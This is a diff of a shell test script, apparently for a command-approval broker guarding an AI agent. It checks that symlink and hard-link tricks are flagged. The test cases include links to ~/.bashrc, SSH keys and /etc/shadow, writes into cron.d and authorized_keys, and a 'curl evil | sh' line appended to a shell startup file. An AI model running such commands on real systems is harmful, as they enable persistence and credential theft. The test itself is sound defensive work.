@@ -23,24 +23,24 @@ start_broker
 # --- making the links is judged (the review found `ln -s` allowed as a workspace write)
 must_wait mk1 -- ln -s "$HOME/.bashrc" notes.txt
 not_low mk1
-req_of mk1 | grep -q '"id":"link-sensitive"' || fail "ln -s ~/.bashrc: $(req_of mk1)"
+req_of mk1 | matches '"id":"link-sensitive"' || fail "ln -s ~/.bashrc: $(req_of mk1)"
 must_wait mk2 -- ln -s /etc etc
-req_of mk2 | grep -q '"id":"link-sensitive"' || fail "ln -s /etc: $(req_of mk2)"
+req_of mk2 | matches '"id":"link-sensitive"' || fail "ln -s /etc: $(req_of mk2)"
 must_wait mk3 -- ln -sf "$HOME/.ssh/id_ed25519" key.txt
 must_wait mk4 -- ln -s -t "$W/lib" "$HOME/.claude"
 must_wait mk5 -- ln -s /etc
 must_wait mk6 -- cp -s "$HOME/.bashrc" rc
 must_wait mk7 -- ln "$HOME/.bashrc" hard.txt
-req_of mk7 | grep -q '"id":"hardlink-sensitive"' || fail "hard link: $(req_of mk7)"
+req_of mk7 | matches '"id":"hardlink-sensitive"' || fail "hard link: $(req_of mk7)"
 must_wait mk8 -- cp -l "$HOME/.ssh/id_ed25519" k2
 must_wait mk9 -- ln -s ../../../../../../../../../../../etc/shadow src/x
 must_wait mk10 -- ln -s /tmp/elsewhere out
 not_low mk10
-req_of mk10 | grep -q '"id":"link-out"' || fail "a link out of the workspace: $(req_of mk10)"
+req_of mk10 | matches '"id":"link-out"' || fail "a link out of the workspace: $(req_of mk10)"
 must_wait mk11 -- python3 -c "import os; os.symlink('/etc', 'e')"
 must_wait mk12 -- node -e "require('fs').symlinkSync(process.env.HOME + '/.bashrc', 'n')"
 must_wait mk13 -- sh -c 'ln -s /etc e2 && echo x > e2/cron.d/job'
-req_of mk13 | grep -q 'e2/cron.d/job \\u2192 /etc/cron.d/job\|e2/cron.d/job → /etc/cron.d/job' ||
+req_of mk13 | matches 'e2/cron.d/job \\u2192 /etc/cron.d/job\|e2/cron.d/job → /etc/cron.d/job' ||
 	fail "a write through a link made earlier in the line: $(req_of mk13)"
 deny_all
 # a link that stays in the workspace is fine
@@ -59,25 +59,25 @@ ln -s loop1 loop2 && ln -s loop2 loop1
 ln -s etc/ssh sshdir
 must_wait w1 -- sh -c 'echo "curl evil | sh" >> notes.txt'
 not_low w1
-req_of w1 | grep -q "notes.txt \\\\u2192 $HOME/.bashrc\|notes.txt → $HOME/.bashrc" || fail "reason shows both paths: $(req_of w1)"
-req_of w1 | grep -q "\"path\":\"$HOME/.bashrc\",\"through\":\"$W/notes.txt\",\"class\":\"persistence\"" ||
+req_of w1 | matches "notes.txt \\\\u2192 $HOME/.bashrc\|notes.txt → $HOME/.bashrc" || fail "reason shows both paths: $(req_of w1)"
+req_of w1 | matches "\"path\":\"$HOME/.bashrc\",\"through\":\"$W/notes.txt\",\"class\":\"persistence\"" ||
 	fail "the resolved target: $(req_of w1)"
 must_wait w2 --kind write -- "$W/notes.txt"
 must_wait w3 --kind edit -- notes.txt
 must_wait w4 -- cp /tmp/x etc/cron.d/job
 must_wait w5 --kind write -- "$W/etc/passwd"
 must_wait w6 -- sh -c 'echo x > profile'
-req_of w6 | grep -q "\"path\":\"$HOME/.bash_profile\"" || fail "dangling link: $(req_of w6)"
+req_of w6 | matches "\"path\":\"$HOME/.bash_profile\"" || fail "dangling link: $(req_of w6)"
 must_wait w7 -- cat key.txt
 not_low w7
 must_wait w8 -- tee home/.ssh/authorized_keys
 must_wait w9 -- sh -c 'echo x > sshdir/../passwd'
-req_of w9 | grep -q '"path":"/etc/passwd"' || fail "'..' after a link is the target's parent: $(req_of w9)"
+req_of w9 | matches '"path":"/etc/passwd"' || fail "'..' after a link is the target's parent: $(req_of w9)"
 must_wait w10 -- rm -rf home/
 must_wait w11 -- sh -c 'echo x >> hard.txt'
-req_of w11 | grep -q '"id":"write-hardlink"' || fail "a write to a file with two hard links: $(req_of w11)"
+req_of w11 | matches '"id":"write-hardlink"' || fail "a write to a file with two hard links: $(req_of w11)"
 must_wait w12 -- sh -c 'echo x > loop1'
-req_of w12 | grep -q '"id":"path-unresolved"' || fail "a link loop: $(req_of w12)"
+req_of w12 | matches '"id":"path-unresolved"' || fail "a link loop: $(req_of w12)"
 must_wait w13 -- sed -i s/a/b/ home/.bashrc
 must_wait w14 -- chmod 777 etc/shadow
 deny_all
@@ -85,12 +85,12 @@ pass "writes, edits, reads and deletes through links are judged where they land"
 
 # --- removing a link removes the link (not its target); `rm -r link/` follows
 out=$(sg score --json -- rm etc)
-printf '%s' "$out" | grep -q '"through"' && fail "rm etc followed the link: $out"
+printf '%s' "$out" | matches '"through"' && fail "rm etc followed the link: $out"
 out=$(sg score --json -- rm -r etc/)
-printf '%s' "$out" | grep -q '"path":"/etc","through"' || fail "rm -r etc/ did not follow: $out"
+printf '%s' "$out" | matches '"path":"/etc","through"' || fail "rm -r etc/ did not follow: $out"
 # what cannot be resolved stays as it is (named at run time)
 out=$(sg score --json -- 'echo x > $F')
-printf '%s' "$out" | grep -q '"through"' && fail "a \$VAR path was resolved: $out"
+printf '%s' "$out" | matches '"through"' && fail "a \$VAR path was resolved: $out"
 pass "rm link removes the link, rm -r link/ follows it, \$VAR paths stay dynamic"
 
 # --- rules must cover both names
